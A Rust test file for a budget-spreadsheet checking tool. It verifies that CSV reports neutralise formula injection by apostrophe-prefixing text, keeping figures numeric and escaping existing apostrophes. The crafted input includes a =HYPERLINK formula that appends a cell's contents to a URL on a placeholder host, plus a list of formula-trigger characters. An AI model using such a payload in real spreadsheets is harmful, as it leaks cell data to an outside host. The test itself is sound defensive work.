//! CSV injection: a sheet named `-Realisasi` and an uraian `=HYPERLINK(…)` in a row with a
//! finding must reach the CSV report as text Excel will not run (`'`-prefixed), while the
//! figures, negative ones included, stay plain numbers. A text that itself starts with `'`
//! gets one more, so stripping one `'` gives every text back exactly.

mod common;

use common::{assert_exit, stdout, Workdir};
use rust_decimal::Decimal;
use rust_xlsxwriter::Workbook;

const SHEET: &str = "-Realisasi";
const URAIAN: &str = "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"Klik\")";

fn crafted(dir: &Workdir) -> std::path::PathBuf {
    crafted_with(dir, URAIAN)
}

/// The crafted table with `uraian` on the kegiatan row (which has findings).
fn crafted_with(dir: &Workdir, uraian: &str) -> std::path::PathBuf {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name(SHEET).unwrap();
    sheet
        .write_string(0, 0, "REALISASI BELANJA TAHUN 2023")
        .unwrap();
    for (col, header) in ["KODE", "URAIAN", "PAGU", "REALISASI", "SISA"]
        .iter()
        .enumerate()
    {
        sheet.write_string(2, col as u16, *header).unwrap();
    }
    // Kegiatan and two sub kegiatan; the kegiatan's sisa is typed 0 instead of 50, so it is
    // neither pagu − realisasi nor the sum of its items: negative differences.
    let rows: [(&str, &str, f64, f64, f64); 3] = [
        ("5.03.01.2.02", uraian, 300.0, 250.0, 0.0),
        ("5.03.01.2.02.01", "Penyediaan Gaji", 100.0, 90.0, 10.0),
        (
            "5.03.01.2.02.04",
            "Penyediaan Tunjangan",
            200.0,
            160.0,
            40.0,
        ),
    ];
    for (i, (code, uraian, pagu, realisasi, sisa)) in rows.iter().enumerate() {
        let row = 3 + i as u32;
        sheet.write_string(row, 0, *code).unwrap();
        sheet.write_string(row, 1, *uraian).unwrap();
        sheet.write_number(row, 2, *pagu).unwrap();
        sheet.write_number(row, 3, *realisasi).unwrap();
        sheet.write_number(row, 4, *sisa).unwrap();
    }
    let path = dir.path("crafted.xlsx");
    book.save(&path).unwrap();
    path
}

#[test]
fn crafted_text_cannot_become_a_formula_in_the_csv() {
    let dir = Workdir::new();
    crafted(&dir);
    let out = dir.run(&["check", "crafted.xlsx", "--format", "csv"]);
    assert_exit(&out, 1);
    let text = stdout(&out);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let figures = ["expected", "actual", "difference"].map(column);
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert!(!records.is_empty(), "no findings:\n{text}");

    let mut saw_uraian = false;
    for record in &records {
        for (i, field) in record.iter().enumerate() {
            if figures.contains(&i) && field.parse::<Decimal>().is_ok() {
                continue; // a number, never a formula
            }
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "field {} = {field:?} could run as a formula\n{text}",
                header[i]
            );
        }
        assert_eq!(&record[column("sheet")], format!("'{SHEET}"), "{text}");
        if record[column("uraian")] == format!("'{URAIAN}") {
            saw_uraian = true;
        }
    }
    assert!(saw_uraian, "no finding on the crafted row:\n{text}");
    let negative = records
        .iter()
        .any(|r| r[column("difference")].starts_with('-'));
    assert!(
        negative,
        "expected a negative difference kept numeric:\n{text}"
    );
}

#[test]
fn other_formats_keep_the_text_as_written() {
    let dir = Workdir::new();
    crafted(&dir);
    let out = dir.run(&["check", "crafted.xlsx", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert!(report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["uraian"] == URAIAN && f["sheet"] == SHEET));
}

#[test]
fn a_leading_apostrophe_is_escaped_so_the_escape_can_be_undone() {
    let dir = Workdir::new();
    crafted_with(&dir, "'Penyediaan Gaji (diketik dengan apostrof)");
    let out = dir.run(&["check", "crafted.xlsx", "--format", "csv"]);
    let text = stdout(&out);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let uraian = reader.headers().unwrap().iter().position(|h| h == "uraian");
    let uraian = uraian.unwrap();
    let found: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[uraian].to_string())
        .filter(|u| u.contains("apostrof"))
        .collect();
    assert!(!found.is_empty(), "no finding on the crafted row:\n{text}");
    for field in found {
        assert_eq!(
            field, "''Penyediaan Gaji (diketik dengan apostrof)",
            "{text}"
        );
    }
}
